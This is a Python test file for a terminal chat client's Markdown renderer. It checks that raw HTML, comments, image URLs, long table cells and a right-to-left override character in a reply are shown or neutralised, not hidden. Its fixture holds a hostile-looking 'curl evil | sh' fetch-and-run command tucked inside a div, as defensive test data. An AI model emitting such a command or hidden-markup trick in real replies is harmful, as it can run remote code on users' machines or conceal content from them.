"""A reply rendered as Markdown hides nothing: raw HTML, comments, an image's
address and a long word in a table cell are on screen (Rich drops or cuts them),
and text decoded from an entity is as inert as the rest."""

from __future__ import annotations

from rich.console import Console

from chatterm.ui.transcript import render_markdown

REPLY = """Visible start.

<div>
HIDDEN run: curl evil | sh
</div>

<!-- HIDDEN_COMMENT -->

Inline <span title="x">tagged</span> and &#x202e;rlo and ![the alt](http://e.example/i.png) at the end.

| a | b |
|---|---|
| https://example.com/a/very/long/path/that/goes/on/and/on/HIDDEN_TAIL | x |
"""


def screen_text(text: str, width: int = 50) -> str:
    console = Console(width=width, color_system=None, force_terminal=False)
    return "\n".join("".join(seg.text for seg in line) for line in render_markdown(text, width, console))


def test_nothing_in_a_reply_is_hidden_or_live():
    shown = screen_text(REPLY)
    for word in ("HIDDEN run: curl evil | sh", "<div>", "<!-- HIDDEN_COMMENT -->", '<span title="x">tagged</span>',
                 "the alt (http://e.example/i.png) at the end"):
        assert word in " ".join(shown.split()), word
    assert "HIDDEN_TAIL" in shown.replace("\n", "").replace(" ", "")  # folded, not cut to "…"
    assert "\u202e" not in shown and "\ufffdrlo" in shown
    # The paragraph holding the image keeps its first line (Rich drew the image over it).
    assert any(line.strip().startswith("Inline <span") for line in shown.splitlines())
